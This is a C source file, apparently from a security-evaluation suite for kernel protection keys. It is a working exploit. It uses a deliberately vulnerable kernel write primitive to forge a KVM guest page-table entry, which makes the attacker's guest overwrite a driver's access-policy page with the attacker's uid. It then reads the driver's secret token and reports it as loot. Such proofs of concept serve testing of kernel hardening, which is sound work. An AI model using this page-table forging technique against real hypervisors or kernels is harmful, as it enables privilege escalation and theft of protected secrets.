// SPDX-License-Identifier: GPL-2.0-only
/*
 * Rewrite an entry of the page tables by which KVM maps memory to a guest of the
 * attacker, so that the guest writes to the page by which a driver decides who
 * may read its secret.
 *
 * The entry was not present before, so that no TLB has it.
 */
#include <assert.h>
#include <signal.h>
#include <stddef.h>
#include <sys/wait.h>
#include <unistd.h>

#include "common.h"
#include "vcpu.h"
#include "vm.h"

static_assert(MARK == ATTACKER_UID, "the guest writes the attacker's uid");

/*
 * KVM has a thread in the process of a guest. If only the other one dies in the
 * kernel, the process never ends: so a child writes, and it dies as that does. The
 * child is there before the guest, whose tables a fork would empty.
 */
static pid_t writer;
static int to_writer, from_writer;

static void start_writer(void)
{
	struct kpkeys_vuln_write w;
	int to[2], from[2];

	if (pipe(to) || pipe(from))
		die_errno("pipe");
	writer = fork();
	if (writer < 0)
		die_errno("fork");
	if (writer) {
		close(to[0]);
		close(from[1]);
		to_writer = to[1];
		from_writer = from[0];
		return;
	}
	close(to[1]);
	while (read(to[0], &w, sizeof(w)) == sizeof(w)) {
		vuln_write(w.addr, w.value);
		if (write(from[1], "", 1) != 1)
			break;
	}
	_exit(0);
}

static void write_entry(u64 addr, u64 value)
{
	const struct kpkeys_vuln_write w = { .addr = addr, .value = value };
	int status;
	char done;

	if (write(to_writer, &w, sizeof(w)) != sizeof(w))
		die_errno("write");
	if (read(from_writer, &done, 1) == 1)
		return;
	if (waitpid(writer, &status, 0) == writer && WIFSIGNALED(status))
		raise(WTERMSIG(status));
	die("the writer has ended");
}

int main(void)
{
	const struct kpkeys_vuln_info *info = vuln_info();
	struct kpkeys_vuln_secret secret = { 0 };
	struct kpkeys_vuln_guest has, next;
	struct kpkeys_vuln_entry policy;
	struct vm vm;
	bool given;

	policy = vuln_entry(KPKEYS_VULN_KERNEL, (void *)(uintptr_t)info->policy,
			    KPKEYS_VULN_PTE);
	start_writer();
	vm_create(&vm, vcpu_mark_code, vcpu_mark_code_size());
	vm_run(&vm);
	has = vuln_guest(vm.vcpu, 0);
	next = vuln_guest(vm.vcpu, PAGE);

	write_entry(next.entry, (has.value & ~info->addr) |
				(policy.value & info->addr));
	vm_run(&vm);
	given = vuln_secret(&secret);
	write_entry(next.entry, next.value);

	if (!given || !is_token(secret.text))
		die("the driver refused: the forged entry has no effect");
	report_loot(secret.text);
	return 0;
}
